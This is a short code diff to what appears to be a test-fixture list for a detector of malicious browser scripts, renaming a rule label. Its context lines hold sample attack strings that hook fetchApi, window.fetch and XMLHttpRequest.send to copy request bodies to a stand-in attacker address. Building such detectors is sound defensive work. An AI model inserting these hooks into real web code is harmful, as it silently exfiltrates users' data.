@@ -189,7 +189,7 @@ const SOURCES: readonly ScriptPack[] = [
 
 const HOST: readonly ScriptPack[] = [
   {
-    rule: 'script_sends_prompts',
+    rule: 'script_leaks_by_address',
     what: 'requests of the host by another fetchApi',
     attack: `const f = api.fetchApi;\napi.fetchApi = function (route, options) {\n  if (options?.body) navigator.sendBeacon("${EVIL}", options.body);\n  return f.apply(this, arguments);\n}`,
     honest:
@@ -208,7 +208,7 @@ const HOST: readonly ScriptPack[] = [
     attack: `const old = window.fetch;\nwindow.fetch = new Proxy(old, { apply(target, self, all) { old("${EVIL}", { method: "POST", body: all[1].body }); return target(...all) } })`,
   },
   {
-    rule: 'script_sends_prompts',
+    rule: 'script_leaks_by_address',
     what: 'what other requests send',
     attack: `const old = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) { navigator.sendBeacon("${EVIL}", body); return old.call(this, body) }`,
   },
